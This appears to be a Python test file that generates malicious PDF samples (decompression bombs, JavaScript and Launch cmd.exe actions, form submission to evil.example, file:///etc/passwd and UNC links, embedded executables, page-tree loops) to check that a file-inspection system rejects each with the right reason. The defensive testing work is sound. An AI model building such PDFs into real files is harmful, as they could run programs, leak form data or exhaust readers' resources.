"""PDFs that swell, act, carry, call or lock; each with its reason."""

from collections.abc import Iterator
from functools import partial

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String

from qbs_platform.files.inspection.verdict import Reason
from tests.files import pdfs
from tests.files.case import MEBIBYTE, Hostile


def every() -> Iterator[Hostile]:
    """All of them."""
    for make in (
        _stream_bombs,
        _scripts,
        _automatic,
        _launching,
        _submitting,
        _carrying,
        _playing,
        _linking,
        _external,
        _locked,
        _pages,
    ):
        yield from make()


def _stream_bombs() -> Iterator[Hostile]:
    flate, group, reason = Name.FlateDecode, "stream bombs", Reason.DECODES_TOO_LARGE
    flat = partial(pdfs.with_stream, pdfs.deflated(bytes(268_000_000)), Filter=flate)
    yield Hostile(group, "260 kB to 268 MB", "a.pdf", flat, reason)
    nested = pdfs.deflated(bytes(200 * MEBIBYTE), 2)
    twice = Array([flate, flate])
    yield Hostile(
        group, "Flate in Flate", "a.pdf", lambda: pdfs.with_stream(nested, Filter=twice), reason
    )
    many = Array([Name.ASCIIHexDecode] * 40)
    yield Hostile(
        group, "40 filters", "a.pdf", lambda: pdfs.with_stream(b"3e>", Filter=many), reason
    )
    yield Hostile(group, "many streams", "a.pdf", _many_streams, reason)
    shrunk = pdfs.deflated(bytes(150 * MEBIBYTE))
    picture = {"Subtype": Name.Image, "Width": 9, "Height": 9, "Filter": flate}
    yield Hostile(
        group, "a picture of 9 × 9", "a.pdf", lambda: pdfs.with_stream(shrunk, **picture), reason
    )
    size = 300 * MEBIBYTE
    yield Hostile(
        group, "object stream", "a.pdf", lambda: pdfs.flooding_object_stream(size), reason
    )
    yield Hostile(
        group,
        "cross-references",
        "a.pdf",
        lambda: pdfs.flooding_cross_reference(size),
        Reason.DAMAGED,
    )


def _many_streams() -> bytes:
    packed = pdfs.deflated(bytes(20 * MEBIBYTE))

    def change(pdf: Pdf) -> None:
        pdf.Root.Pieces = Array(
            pdf.make_indirect(Stream(pdf, packed, Filter=Name.FlateDecode)) for _ in range(6)
        )

    return pdfs.plain(change=change)


def _scripts() -> Iterator[Hostile]:
    def named(pdf: Pdf) -> None:
        entry = Array([String("a"), _code()])
        pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=entry))

    for label, make in (
        ("at opening", lambda: pdfs.opening(_code())),
        ("by name", lambda: pdfs.plain(change=named)),
        ("by a link", lambda: pdfs.action("JavaScript", JS=String("app.alert(1)"))),
        ("in a hidden object stream", lambda: _compressed(_code())),
        (
            "spelled with escapes",
            lambda: pdfs.raw(_opens(b"/S/J#61vaScript/J#53(1)"), *pdfs.PAGES[1:]),
        ),
        (
            "after a jump",
            lambda: pdfs.opening(Dictionary(S=Name.GoTo, D=String("a"), Next=_code())),
        ),
    ):
        yield Hostile("scripts", label, "a.pdf", make, Reason.PDF_JAVASCRIPT)


def _code() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def _web() -> Dictionary:
    return Dictionary(S=Name.URI, URI=String("https://example.cn/"))


def _opens(action: bytes) -> bytes:
    return b"<</Type/Catalog/Pages 2 0 R/OpenAction<<%b>>>>" % action


def _compressed(action: Dictionary) -> bytes:
    def change(pdf: Pdf) -> None:
        pdf.Root.OpenAction = pdf.make_indirect(action)

    mode = pikepdf.ObjectStreamMode.generate
    return pdfs.plain(change=change, object_stream_mode=mode, compress_streams=True)


def _automatic() -> Iterator[Hostile]:
    reason = Reason.PDF_AUTO_ACTION
    printing = Dictionary(S=Name.Named, N=Name.Print)

    def leaving(pdf: Pdf) -> None:
        pdf.Root.AA = Dictionary(WC=_web())

    def turning(pdf: Pdf) -> None:
        pdf.pages[0].obj.AA = pdf.make_indirect(Dictionary(O=pdf.make_indirect(_web())))

    for label, make in (
        ("a web page at opening", lambda: pdfs.opening(_web())),
        ("printing at opening", lambda: pdfs.opening(printing)),
        (
            "two jumps at opening",
            lambda: pdfs.opening(Dictionary(S=Name.GoTo, D=Array(), Next=_web())),
        ),
        ("at closing", lambda: pdfs.plain(change=leaving)),
        ("at turning a page", lambda: pdfs.plain(change=turning)),
        ("of a note", lambda: pdfs.annotation(Subtype=Name.Link, AA=Dictionary(K=_web()))),
    ):
        yield Hostile("automatic actions", label, "a.pdf", make, reason)


def _launching() -> Iterator[Hostile]:
    program = String("cmd.exe")
    for label, make in (
        ("by a link", lambda: pdfs.action("Launch", F=program)),
        ("for Windows", lambda: pdfs.action("Launch", Win=Dictionary(F=program))),
        ("at opening", lambda: pdfs.opening(Dictionary(S=Name.Launch, F=program))),
    ):
        yield Hostile("launching", label, "a.pdf", make, Reason.PDF_LAUNCH)


def _submitting() -> Iterator[Hostile]:
    for kind in ("SubmitForm", "ImportData"):
        make = partial(pdfs.action, kind, F=String("https://evil.example/"))
        yield Hostile("submitting", kind, "a.pdf", make, Reason.PDF_SUBMIT)


def _carrying() -> Iterator[Hostile]:
    for label, make in (
        ("by name", pdfs.attachment),
        ("by a note", lambda: pdfs.attachment(by_annotation=True)),
        ("as a loose stream", lambda: pdfs.with_stream(b"MZ", Type=Name.EmbeddedFile)),
        ("opened by a link", lambda: pdfs.action("GoToE", D=String("a"))),
    ):
        yield Hostile("attachments", label, "a.pdf", make, Reason.PDF_EMBEDDED)


def _playing() -> Iterator[Hostile]:
    for kind in ("RichMedia", "Screen", "Movie", "Sound", "3D"):
        make = partial(pdfs.annotation, Subtype=Name(f"/{kind}"))
        yield Hostile("media", f"annotation {kind}", "a.pdf", make, Reason.PDF_MEDIA)
    for kind in ("Rendition", "RichMediaExecute"):
        make = partial(pdfs.action, kind)
        yield Hostile("media", f"action {kind}", "a.pdf", make, Reason.PDF_MEDIA)

    def dynamic(pdf: Pdf) -> None:
        pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=Stream(pdf, b"<xdp:xdp/>"))

    yield Hostile(
        "dynamic forms", "XFA", "a.pdf", lambda: pdfs.plain(change=dynamic), Reason.PDF_XFA
    )


def _linking() -> Iterator[Hostile]:
    for target in (
        "javascript:alert(1)",
        "file:///etc/passwd",
        "smb://host/share",
        "\\\\host\\a",
        "x:",
    ):
        make = partial(pdfs.link, target)
        yield Hostile("links", target, "a.pdf", make, Reason.PDF_LINK)


def _external() -> Iterator[Hostile]:
    far = partial(pdfs.action, "GoToR", F=String("\\\\host\\a.pdf"), D=String("x"))
    yield Hostile("outside files", "by a link", "a.pdf", far, Reason.PDF_EXTERNAL)
    body = partial(pdfs.with_stream, b"", F=String("http://evil.example/a"))
    yield Hostile("outside files", "a stream's data", "a.pdf", body, Reason.PDF_EXTERNAL)


def _locked() -> Iterator[Hostile]:
    for label, user in (("with a password", "secret"), ("against printing", "")):
        make = partial(pdfs.encrypted, user=user)
        yield Hostile("locked", label, "a.pdf", make, Reason.PDF_ENCRYPTED)


def _pages() -> Iterator[Hostile]:
    loop = (b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R]/Count 1>>")
    empty = (b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>")
    many, damaged = Reason.TOO_MANY_PAGES, Reason.DAMAGED
    yield Hostile("pages", "501", "a.pdf", lambda: pdfs.plain(pages=501), many)
    yield Hostile("pages", "5,000", "a.pdf", lambda: pdfs.plain(pages=5_000), many)
    yield Hostile("pages", "a loop", "a.pdf", lambda: pdfs.raw(*loop), damaged)
    yield Hostile("pages", "none", "a.pdf", lambda: pdfs.raw(*empty), damaged)
    yield Hostile(
        "pages", "2 ** 60 by sharing", "a.pdf", lambda: pdfs.sharing_page_tree(60), damaged
    )
    yield Hostile("pages", "no catalogue", "a.pdf", lambda: pdfs.raw(b"null"), damaged)
